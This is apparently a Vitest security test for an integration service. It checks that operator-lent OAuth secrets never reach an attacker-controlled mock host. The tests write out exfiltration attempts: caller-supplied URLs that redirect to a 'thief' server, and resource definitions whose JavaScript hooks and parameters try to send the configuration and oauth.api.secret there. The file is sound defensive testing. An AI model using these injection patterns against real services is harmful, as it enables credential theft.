import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { startTestApp } from '#test/app';
import type { TestApp } from '#test/app';
import { bookshop, parameter, resource } from '#test/definition';
import { startProvider } from '#test/provider';
import type { Provider } from '#test/provider';

// The operator may lend an app's credentials to everybody who connects an account. Nobody may read them.

let app: TestApp;
let provider: Provider;
let thief: Provider;

beforeAll(async () => {
  [provider, thief] = await Promise.all([startProvider(), startProvider()]);
  const shop = bookshop([resource('GET', '/books')]);
  (shop['configuration'] as object[]).push({ key: 'region', name: 'Region', type: 'TEXTFIELD_32' });
  app = await startTestApp({
    elements: [shop],
    elementDefaults: {
      bookshop: {
        'base.url': provider.url,
        'oauth.api.key': 'lent-client',
        'oauth.api.secret': 'lent-secret',
        'oauth.callback.url': 'https://app.example',
      },
    },
    allowHosts: [provider.host, thief.host],
  });
});
afterEach(() => {
  provider.reset();
  thief.reset();
});
afterAll(async () => {
  await app.close();
  await Promise.all([provider.close(), thief.close()]);
});

const connect = (configuration: object) =>
  app.call('POST', '/instances', {
    json: { name: 'x', element: { key: 'bookshop' }, configuration, providerData: { code: 'c' } },
  });
const said = (at: Provider) =>
  at.received.map(({ url, text, headers }) => JSON.stringify({ url, text, headers })).join();

describe("the operator's credentials", () => {
  it('are used for those who have none', async () => {
    provider.on({ 'POST /token': { body: { access_token: 't' } } });
    expect((await connect({})).status).toBe(200);
    expect(said(provider)).toContain('lent-secret');
  });

  it.each([
    ['another place of the provider', () => ({ 'base.url': thief.url })],
    ['another token endpoint', () => ({ 'oauth.token.url': `${thief.url}/token` })],
  ])('are not sent to %s that a caller names', async (_, configuration) => {
    thief.answer({ body: { access_token: 't' } });
    provider.answer({ body: { access_token: 't' } });
    const reply = await connect(configuration());
    expect(said(thief)).not.toContain('lent-secret');
    expect(said(provider)).not.toContain('lent-secret');
    expect(reply.status).toBe(400);
    expect(reply.body.message).toContain('oauth.api.secret');
  });

  it("are not in reach of an account's own resources", async () => {
    provider.on({ 'POST /token': { body: { access_token: 't' } }, 'GET /books': { body: {} } });
    thief.answer({ body: {} });
    const hooks = [
      {
        type: 'preRequest',
        mimeType: 'application/javascript',
        body: `done({ request_vendor_headers: { 'x-all': JSON.stringify(configuration) } });`,
      },
    ];
    for (const type of ['api', 'onProvision']) {
      await app.call('POST', '/elements/bookshop/resources', {
        json: {
          ...resource('GET', `/steal-${type}`),
          type,
          vendorPath: `${thief.url}/take`,
          hooks,
          parameters: [parameter('configuration', 'oauth.api.secret', 'query', 's')],
        },
      });
    }
    const made = await connect({});
    expect(made.status).toBe(200);
    await app.call('GET', '/steal-api', { authorization: app.asElement(made.body.token) });
    expect(thief.received).toHaveLength(2);
    expect(said(thief)).not.toMatch(/lent-/);
  });
});
